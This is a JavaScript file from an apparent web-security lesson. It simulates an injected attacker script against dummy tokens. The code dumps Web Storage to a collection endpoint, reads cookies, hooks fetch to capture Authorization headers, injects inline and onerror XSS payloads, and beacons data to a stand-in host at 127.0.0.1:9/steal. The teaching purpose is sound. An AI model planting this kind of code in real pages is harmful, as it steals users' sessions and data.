// The "injected script" of the lesson page (/app/lesson, development only).
//
// It stands for code an attacker got into a page. It runs only against the lesson's own
// dummy tokens. Everything it does is what any script running in a page can do.
"use strict";

window.injected = (() => {
  const collect = (loot) =>
    fetch("/app/lesson/collect", {
      method: "POST",
      headers: { "Content-Type": "application/json" },
      body: JSON.stringify({ loot }),
    }).then((response) => response.json());

  return {
    // Read everything in Web Storage and send it to "the attacker's server".
    async stealStorage() {
      const loot = { ...window.localStorage, ...window.sessionStorage };
      const answer = await collect(loot);
      return { found: Object.keys(loot), answer };
    },

    // What document.cookie shows to a script: every cookie of this path that is NOT HttpOnly.
    readCookies() {
      return document.cookie;
    },

    // Ask the refresh endpoint: the browser attaches the HttpOnly cookie by itself.
    async useRefreshCookie() {
      const response = await fetch("/app/lesson/refresh", { method: "POST" });
      return { status: response.status, body: await response.json() };
    },

    // Look for token-like strings in global variables.
    scanGlobals() {
      return Object.keys(window).filter((name) => {
        try {
          const value = window[name];
          return typeof value === "string" && value.startsWith("lesson-dummy-");
        } catch {
          return false;
        }
      });
    },

    // Wrap fetch: every later request made through window.fetch passes through here first.
    wrapFetch(onAuthorization) {
      const original = window.fetch;
      window.fetch = function (input, init = {}) {
        const headers = new Headers(init.headers || {});
        if (headers.has("Authorization")) onAuthorization(headers.get("Authorization"));
        return original.call(this, input, init);
      };
      return () => {
        window.fetch = original;
      };
    },

    // The classic payloads: an inline script and an event-handler attribute.
    injectInline(target) {
      const script = document.createElement("script");
      script.textContent = "window.lessonInlineRan = true;";
      target.append(script);
      const holder = document.createElement("div");
      holder.innerHTML = '<img src="/static/lesson-no-such-image.png" alt="" onerror="window.lessonHandlerRan = true">';
      target.append(holder);
    },

    // Sending data to another origin, by fetch and by an image (127.0.0.1:9 stands for any other host).
    async exfiltrate(data) {
      const elsewhere = "http://127.0.0.1:9/steal";
      let fetchOutcome;
      try {
        await fetch(`${elsewhere}?t=${encodeURIComponent(data)}`, { mode: "no-cors" });
        fetchOutcome = "sent";
      } catch (error) {
        fetchOutcome = `failed (${error.message})`;
      }
      const image = new Image();
      image.src = `${elsewhere}.png?t=${encodeURIComponent(data)}`;
      return fetchOutcome;
    },
  };
})();
